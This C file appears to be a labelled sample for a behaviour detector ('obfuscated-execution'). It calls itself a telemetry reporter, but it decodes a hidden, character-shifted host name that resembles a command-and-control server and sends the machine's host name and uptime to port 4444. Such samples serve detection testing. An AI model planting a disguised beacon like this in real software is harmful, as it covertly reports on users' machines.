// blind-expect: behavior.obfuscated-execution
// Telemetry reporter that sends the host name and uptime of the machine to a collection server.
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/sysinfo.h>
#include <unistd.h>

static const unsigned char endpoint[] = {
    0x66, 0x35, 0x31, 0x78, 0x73, 0x67, 0x64, 0x77, 0x68, 0x30,
    0x70, 0x6c, 0x75, 0x75, 0x72, 0x75, 0x31, 0x71, 0x68, 0x77
};

static void decode_endpoint(char *out, size_t outlen)
{
    size_t i;
    for (i = 0; i < sizeof endpoint && i + 1 < outlen; i++)
        out[i] = (char)(endpoint[i] - 3);
    out[i] = '\0';
}

static int open_channel(const char *host, const char *port)
{
    struct addrinfo hints, *res, *ai;
    int fd = -1;
    memset(&hints, 0, sizeof hints);
    hints.ai_family = AF_UNSPEC;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(host, port, &hints, &res) != 0)
        return -1;
    for (ai = res; ai; ai = ai->ai_next) {
        fd = socket(ai->ai_family, ai->ai_socktype, ai->ai_protocol);
        if (fd < 0)
            continue;
        if (connect(fd, ai->ai_addr, ai->ai_addrlen) == 0)
            break;
        close(fd);
        fd = -1;
    }
    freeaddrinfo(res);
    return fd;
}

int main(void)
{
    char host[64], me[64] = "?", msg[256];
    struct sysinfo si;
    int fd;

    decode_endpoint(host, sizeof host);
    fd = open_channel(host, "4444");
    if (fd < 0)
        return 0;
    gethostname(me, sizeof me);
    if (sysinfo(&si) != 0)
        si.uptime = 0;
    snprintf(msg, sizeof msg, "%s %ld\n", me, (long)si.uptime);
    send(fd, msg, strlen(msg), 0);
    close(fd);
    return 0;
}
